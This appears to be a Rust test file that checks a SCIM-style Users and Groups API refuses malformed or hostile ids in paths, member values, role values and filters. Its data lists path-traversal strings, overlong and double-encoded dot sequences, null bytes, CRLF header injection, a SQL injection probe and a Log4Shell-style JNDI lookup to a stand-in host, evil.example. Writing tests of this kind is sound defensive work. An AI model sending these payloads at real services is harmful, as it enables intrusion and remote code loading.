//! Ids that look like paths, and what else is no id.

use crate::raw::{request, sending};
use crate::row::Expected::{Refused, Served};
use crate::row::{Row, row};

/// An id that is well formed and nobody's.
const NOBODY: &str = "11111111-2222-4333-8444-555555555555";

pub(crate) fn rows() -> Vec<Row> {
    [ids(), members()].into_iter().flatten().collect()
}

/// What stands in the place of an id, and is nobody's id, whatever is done with it.
fn ids() -> Vec<Row> {
    let long = "a".repeat(4096);
    let escaped = "%61".repeat(4096);
    let ids = [
        "..%2froles",
        "..%2Fusers%2f..%2froles",
        "%2e%2e%2fadmin%2fteams",
        "%2e%2e",
        "..",
        ".",
        "%2e",
        "%00",
        &format!("{NOBODY}%00"),
        &format!("{NOBODY}%2f..%2froles"),
        &format!("{NOBODY}%2froles"),
        &format!("{NOBODY}%3fq=1"),
        &format!("{NOBODY}%23"),
        &format!("{NOBODY}%0d%0aX-Injected:%20yes"),
        &format!("{NOBODY};a=b"),
        &format!("{NOBODY}%20"),
        "%252e%252e%252froles",
        "%c0%ae%c0%ae%c0%af",
        "%ff%fe",
        "%u002e",
        "%",
        "%zz",
        "%E2%82%AC",
        "%F0%9F%92%A9",
        "*",
        "me",
        "-1",
        "1%20or%201=1",
        "$%7bjndi:ldap:%2f%2fevil.example%7d",
        "http:%2f%2fevil.example",
        "%5c..%5croles",
        &long,
        &escaped,
    ];
    let mut rows = Vec::new();
    for id in ids {
        for (method, endpoint, body) in [
            ("GET", "Users", None),
            ("PUT", "Users", Some(r#"{"displayName":"x"}"#)),
            (
                "PATCH",
                "Groups",
                Some(r#"{"Operations":[{"op":"add","path":"members","value":[]}]}"#),
            ),
            ("DELETE", "Groups", None),
        ] {
            let target = format!("/{endpoint}/{id}");
            let bytes = match body {
                Some(body) => sending(method, &target, body),
                None => request(method, &target).into_bytes(),
            };
            let shown: String = id.chars().take(40).collect();
            rows.push(row(
                format!("{method} /{endpoint}/{shown}"),
                bytes,
                Refused(404, ""),
            ));
        }
    }
    rows
}

/// Ids in bodies and filters.
fn members() -> Vec<Row> {
    let add = |value: &str| {
        let body = format!(
            r#"{{"Operations":[{{"op":"add","path":"members","value":[{{"value":{value}}}]}}]}}"#
        );
        sending("PATCH", "/Groups/{team}", body)
    };
    let mut rows = Vec::new();
    for value in [
        r#""../../admin/roles""#,
        r#""..%2froles""#,
        r#""""#,
        r#""\u0000""#,
        r#""\r\nX-Injected: yes""#,
        r#""a?b#c""#,
        "7",
        "null",
        "{}",
        r#""\ud83d\udca9""#,
    ] {
        let expected = Refused(400, "invalidValue");
        rows.push(row(
            format!("a member with the value {value}"),
            add(value),
            expected,
        ));
    }
    for (endpoint, filter) in [
        ("Users", "id+eq+%22..%2froles%22"),
        ("Users", "id+eq+%22%00%22"),
        ("Groups", "id+eq+%22*%22"),
        ("Groups", "members.value+eq+%22..%2f..%22"),
        ("Groups", "members+eq+%22%3fq=1%22"),
    ] {
        let target = format!("/{endpoint}?filter={filter}");
        rows.push(row(target.clone(), request("GET", &target), Served(200)));
    }
    for value in [r#""../admin""#, "7", r#""\u0000""#, "[]", "true"] {
        let body = format!(r#"{{"roles":[{{"value":{value}}}]}}"#);
        let expected = Refused(400, "invalidValue");
        rows.push(row(
            format!("a role with the value {value}"),
            sending("PUT", "/Users/{ada}", body),
            expected,
        ));
    }
    rows
}
